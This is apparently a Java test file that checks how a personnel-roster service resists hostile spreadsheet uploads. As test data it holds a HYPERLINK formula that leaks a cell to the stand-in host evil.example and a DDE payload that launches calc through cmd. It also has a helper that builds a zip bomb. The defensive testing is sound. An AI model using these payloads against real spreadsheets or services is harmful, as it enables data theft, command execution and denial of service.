package org.benling.personnel.roster;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.path.json.JsonPath;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.benling.personnel.Demo;
import org.junit.jupiter.api.Test;

/** Roster files that try to hurt: formulas in and out, oversized uploads, a zip bomb, overlong cells. */
@QuarkusTest
class RosterFilesTest {

    static final String XLSX = Roster.XLSX;
    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\")";
    static final String DDE = "=cmd|' /C calc'!A0";

    @Test
    void textThatLooksLikeAFormulaIsStoredAndExportedAsInertText() throws IOException {
        String[] hyperlink = Roster.row("YZ9F0001", HYPERLINK, "1986-02-03", "440100");
        String[] dde = Roster.row("YZ9F0002", "陈静", "1986-02-03", "440100");
        dde[6] = DDE;
        String[] plus = Roster.row("YZ9F0003", "+86-20-1234", "1986-02-03", "440100");
        plus[6] = "@SUM(1+1)";
        given().auth().oauth2(Demo.hrGuangdong())
                .multiPart("file", "roster.xlsx", Roster.workbook(List.of(hyperlink, dde, plus)), XLSX)
                .post("/api/cadres/import").then().statusCode(200).body("imported", equalTo(3));

        byte[] export = given().auth().oauth2(Demo.hrGuangdong()).queryParam("q", "YZ9F")
                .queryParam("sort", "employeeNumber").get("/api/cadres/export").then().statusCode(200)
                .extract().asByteArray();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(export))) {
            Sheet sheet = workbook.getSheetAt(0);
            assertInert(sheet.getRow(1).getCell(1), HYPERLINK);
            assertInert(sheet.getRow(2).getCell(6), DDE);
            assertInert(sheet.getRow(3).getCell(1), "+86-20-1234");
            assertInert(sheet.getRow(3).getCell(6), "@SUM(1+1)");
            Cell plainName = sheet.getRow(2).getCell(1);
            assertEquals("陈静", plainName.getStringCellValue());
            assertFalse(plainName.getCellStyle().getQuotePrefixed(), "ordinary text keeps its plain style");
            Cell birth = sheet.getRow(1).getCell(3);
            assertEquals(CellType.NUMERIC, birth.getCellType(), "dates are date cells");
            assertEquals("1986-02-03", birth.getLocalDateTimeCellValue().toLocalDate().toString());
        }
        for (String sheetXml : List.of(part(export, "xl/worksheets/sheet1.xml"))) {
            assertFalse(sheetXml.contains("<f>"), "no formula element anywhere in the export");
        }
    }

    @Test
    void aFormulaCellInAnUploadCountsAsTheValueItShowsNeverAsItsFormula() throws IOException {
        byte[] upload;
        try (XSSFWorkbook workbook = new XSSFWorkbook(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            Sheet sheet = workbook.createSheet("干部花名册");
            write(sheet.createRow(0), Roster.HEADERS);
            write(sheet.createRow(1), Roster.row("YZ9G0001", "", "1986-02-03", "440100"));
            sheet.getRow(1).getCell(1).setCellFormula("\"林\"&\"晓\"&\"梅\"");
            workbook.getCreationHelper().createFormulaEvaluator().evaluateFormulaCell(sheet.getRow(1).getCell(1));
            write(sheet.createRow(2), Roster.row("YZ9G0002", "", "1987-02-03", "440100"));
            sheet.getRow(2).getCell(1).setCellFormula("HYPERLINK(\"http://evil.example\",\"x\")");
            workbook.write(out);
            upload = out.toByteArray();
        }
        JsonPath report = given().auth().oauth2(Demo.hrGuangdong())
                .multiPart("file", "roster.xlsx", upload, XLSX)
                .post("/api/cadres/import").then().statusCode(200)
                .body("imported", equalTo(1)).body("rejected", equalTo(1)).extract().jsonPath();
        assertEquals("name", report.getString("rows.find { it.row == 3 }.violations[0].field"),
                "a formula without a shown value is an empty cell, not its formula text");
        given().auth().oauth2(Demo.hrGuangdong()).queryParam("q", "YZ9G").get("/api/cadres").then()
                .body("total", equalTo(1)).body("items[0].name", equalTo("林晓梅"));
    }

    @Test
    void anUploadLargerThanTheLimitIsAnswered413BeforeItIsRead() throws Exception {
        // as a browser or curl sends a file: multipart with its Content-Length declared
        byte[] fifty = new byte[50 * 1024 * 1024];
        new Random(13).nextBytes(fifty);
        String boundary = "benling-" + System.nanoTime();
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.write(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.xlsx\"\r\n"
                + "Content-Type: " + XLSX + "\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        body.write(fifty);
        body.write(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        HttpResponse<String> response = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                        URI.create(RestAssured.baseURI + ":" + RestAssured.port + "/api/cadres/import"))
                .header("Authorization", "Bearer " + Demo.hrGuangdong())
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray())).build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(413, response.statusCode());
        assertEquals("application/problem+json", response.headers().firstValue("Content-Type").orElse(""));
        JsonPath problem = new JsonPath(response.body());
        assertEquals("https://benling.org/problems/payload-too-large", problem.getString("type"));
        assertTrue(problem.getString("detail").contains("11 MB"), problem.getString("detail"));
        given().get("/q/health/ready").then().statusCode(200);
    }

    @Test
    void aZipBombIsRefusedOnItsFirstMegabytesAndTheServiceStaysHealthy() {
        byte[] valid = Roster.workbook(List.<String[]>of(Roster.row("YZ9Z0001", "赵敏", "1986-02-03", "440100")));
        byte[] bomb = withPaddedSheet(valid, 64 * 1024 * 1024);
        assertTrue(bomb.length < 1024 * 1024, "the bomb is small on the wire: " + bomb.length + " bytes");
        long started = System.nanoTime();
        given().auth().oauth2(Demo.hrGuangdong())
                .multiPart("file", "bomb.xlsx", bomb, XLSX)
                .post("/api/cadres/import").then().statusCode(400)
                .contentType("application/problem+json")
                .body("detail", containsString("zip bomb"))
                .body("violations[0].field", equalTo("file"));
        System.out.printf("zip bomb: %d bytes inflating to %d MB refused in %d ms%n", bomb.length, 64,
                (System.nanoTime() - started) / 1_000_000);
        given().get("/q/health/ready").then().statusCode(200);
        given().auth().oauth2(Demo.hrGuangdong()).queryParam("q", "YZ9Z").get("/api/cadres").then()
                .body("total", equalTo(0));
    }

    @Test
    void anOverlongCellIsReportedOnItsRowAndTheOtherRowsImport() {
        String[] overlong = Roster.row("YZ9L0001", "长".repeat(300), "1986-02-03", "440100");
        given().auth().oauth2(Demo.hrGuangdong())
                .multiPart("file", "roster.xlsx", Roster.workbook(List.of(overlong,
                        Roster.row("YZ9L0002", "黄蕾", "1986-02-03", "440100"))), XLSX)
                .post("/api/cadres/import").then().statusCode(200)
                .body("imported", equalTo(1))
                .body("rows.find { it.row == 2 }.violations[0].field", equalTo("name"))
                .body("rows.find { it.row == 2 }.violations[0].message", containsString("200"));
    }

    private static void assertInert(Cell cell, String text) {
        assertEquals(CellType.STRING, cell.getCellType(), text + " is a text cell, not a formula");
        assertEquals(text, cell.getStringCellValue(), "the exact text survives");
        assertTrue(cell.getCellStyle().getQuotePrefixed(), text + " carries the quote prefix");
    }

    private static void write(Row row, String[] values) {
        for (int c = 0; c < values.length; c++) {
            row.createCell(c).setCellValue(values[c]);
        }
    }

    private static String part(byte[] zip, String name) throws IOException {
        java.nio.file.Path file = java.nio.file.Files.createTempFile("export", ".xlsx");
        try (java.util.zip.ZipFile workbook = new java.util.zip.ZipFile(java.nio.file.Files.write(file, zip).toFile())) {
            ZipEntry entry = workbook.getEntry(name);
            assertTrue(entry != null, name + " is in the workbook");
            return new String(workbook.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
        } finally {
            java.nio.file.Files.delete(file);
        }
    }

    /** The same workbook with its sheet's XML padded by whitespace that inflates to {@code padding} bytes. */
    private static byte[] withPaddedSheet(byte[] xlsx, int padding) {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(xlsx));
                ByteArrayOutputStream bytes = new ByteArrayOutputStream();
                ZipOutputStream out = new ZipOutputStream(bytes)) {
            out.setLevel(9);
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                byte[] content = in.readAllBytes();
                out.putNextEntry(new ZipEntry(entry.getName()));
                if (entry.getName().equals("xl/worksheets/sheet1.xml")) {
                    String xml = new String(content, StandardCharsets.UTF_8);
                    int at = xml.indexOf("<sheetData>") + "<sheetData>".length();
                    out.write(xml.substring(0, at).getBytes(StandardCharsets.UTF_8));
                    byte[] spaces = new byte[1024 * 1024];
                    Arrays.fill(spaces, (byte) ' ');
                    for (int written = 0; written < padding; written += spaces.length) {
                        out.write(spaces);
                    }
                    out.write(xml.substring(at).getBytes(StandardCharsets.UTF_8));
                } else {
                    out.write(content);
                }
                out.closeEntry();
            }
            out.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
